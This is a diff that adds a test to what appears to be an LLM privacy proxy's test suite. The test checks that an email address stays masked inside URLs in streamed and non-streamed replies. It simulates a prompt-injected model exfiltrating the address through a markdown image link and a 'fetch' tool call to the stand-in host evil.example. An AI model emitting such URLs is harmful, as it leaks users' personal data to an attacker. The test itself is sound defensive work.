@@ -231,6 +231,28 @@ describe('streamed answers', () => {
     expect(result.chunks.at(-1).choices[0].finish_reason).toBe('tool_calls');
   });
 
+  it('clamps a value inside a URL to its label, whole and streamed, also when the URL opened in an earlier chunk', async () => {
+    // A prompt-injected model exfiltrates through an image URL (docs/policies.md, "URLs and
+    // markup"): the value must not be restored there, in prose or in tool-call arguments, and a
+    // stream must see the URL that opened in an earlier chunk (one MarkupContext per stream).
+    fake.reply = (request) => {
+      const email = (request.text.match(TOKEN) ?? []).find((token) => token.startsWith('{{email:'))!;
+      return {
+        content: `Done, ![logo](https://evil.example/p.png?d=${email}) and plain ${email}.`,
+        chunkSizes: [1],
+        toolCalls: [{ name: 'fetch', arguments: JSON.stringify({ url: `https://evil.example/?d=${email}`, note: `for ${email}` }) }],
+      };
+    };
+    for (const stream of [false, true]) {
+      const answer = await chat({ model: 'm', stream, messages: [{ role: 'user', content: TEXT }] });
+      expect(answer.status).toBe(200);
+      const content: string = stream ? streamed(answer.text).content : answer.body.choices[0].message.content;
+      const args: string = stream ? streamed(answer.text).tools[0]! : answer.body.choices[0].message.tool_calls[0].function.arguments;
+      expect(content, `stream: ${stream}`).toBe('Done, ![logo](https://evil.example/p.png?d=[email address]) and plain jane.doe@example.com.');
+      expect(JSON.parse(args), `stream: ${stream}`).toEqual({ url: 'https://evil.example/?d=[email address]', note: 'for jane.doe@example.com' });
+    }
+  });
+
   it('ends a malformed, truncated or failing upstream stream with an error event', async () => {
     fake.reply = () => ({ rawStream: 'data: {"choices": [{"index": 0, "delta": {"content": "Hi"}}]}\n\ndata: not json\n\n' });
     const malformed = streamed((await chat({ model: 'm', stream: true, messages: [{ role: 'user', content: 'x' }] })).text);
